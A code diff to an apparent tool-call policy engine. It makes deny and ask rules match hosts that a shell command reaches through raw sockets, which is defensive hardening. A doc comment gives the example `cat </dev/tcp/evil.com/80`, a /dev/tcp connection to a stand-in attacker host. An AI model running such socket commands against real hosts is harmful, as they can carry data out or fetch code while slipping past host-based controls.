@@ -23,6 +23,9 @@ export interface PolicySubject {
   /** The shell command line, when the tool runs one. */
   command?: string;
   hosts: string[];
+  /** Hosts the command line opens a socket to (`cat </dev/tcp/evil.com/80`): reached as surely
+   *  as a URL's, for a deny or ask rule; an allow of the host does not cover the line for it. */
+  sockets?: string[];
   mcpServer?: string;
 }
 
@@ -58,7 +61,8 @@ function hostMatches(pattern: string, host: string): boolean {
 function matchesStatic(rule: PolicyRule, s: PolicySubject, skipHost = false): boolean {
   if (rule.tool && !globToRegExp(rule.tool).test(s.tool)) return false;
   if (rule.capability && !s.capabilities.includes(rule.capability)) return false;
-  if (rule.host && !skipHost && !s.hosts.some((h) => hostMatches(rule.host!, h))) return false;
+  const hosts = rule.effect === "allow" || !s.sockets ? s.hosts : [...s.hosts, ...s.sockets];
+  if (rule.host && !skipHost && !hosts.some((h) => hostMatches(rule.host!, h))) return false;
   if (rule.mcpServer && (!s.mcpServer || !globToRegExp(rule.mcpServer).test(s.mcpServer))) return false;
   return true;
 }
